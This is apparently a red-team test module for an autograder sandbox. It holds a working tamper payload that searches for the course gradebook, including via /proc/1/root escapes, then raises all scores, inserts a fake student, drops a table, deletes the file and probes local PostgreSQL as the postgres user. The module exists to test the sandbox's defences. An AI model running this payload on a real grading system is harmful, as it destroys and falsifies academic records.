"""Opening, rewriting and deleting the course's gradebook (SQLite file, PostgreSQL server)."""

from __future__ import annotations

from tests.redteam.attacks import FUNCTIONS, LEAK, Attack, Cell, leak_checked

TAMPER = r"""
import os
import sqlite3

for path in ["@GRADEBOOK@", "@COURSE@/gradebook.db", "../../gradebook.db", "../gradebook.db", "/gradebook.db",
             os.path.expanduser("~/gradebook.db"), "/proc/1/root@GRADEBOOK@", "/proc/self/root@GRADEBOOK@"]:
    if os.path.exists(path) and os.path.getsize(path) > 0:
        _leak("sees " + path)
    try:
        connection = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=0.5)
        connection.execute("UPDATE grade SET auto_score = max_score")
        connection.execute("INSERT INTO student (id) VALUES ('intruder')")
        connection.execute("DROP TABLE IF EXISTS dlgrade_submission")
        connection.commit()
        connection.close()
        _leak("wrote " + path)
    except Exception:
        pass
    try:
        os.remove(path)
        _leak("removed " + path)
    except OSError:
        pass

try:
    import psycopg
except BaseException:
    psycopg = None
if psycopg is not None:
    for dsn in ["host=127.0.0.1 port=5432 user=postgres dbname=postgres connect_timeout=2",
                "host=localhost port=5432 user=postgres dbname=test connect_timeout=2",
                "host=/var/run/postgresql user=postgres dbname=postgres connect_timeout=2",
                "host=/tmp user=postgres dbname=postgres connect_timeout=2"]:
        try:
            with psycopg.connect(dsn) as connection:
                connection.execute("SELECT 1")
            _leak("connected to PostgreSQL: " + dsn)
        except Exception:
            pass
"""

ATTACK = Attack(
    name="gradebook_tamper",
    summary="opens the course's gradebook.db (its real path, relative guesses, /proc/1/root) to raise "
    "scores, insert a student and drop dlgrade's table, then deletes it; connects to PostgreSQL",
    answers={function: leak_checked(function) for function in FUNCTIONS},
    cells=(Cell(LEAK, after="start"), Cell(TAMPER)),
)
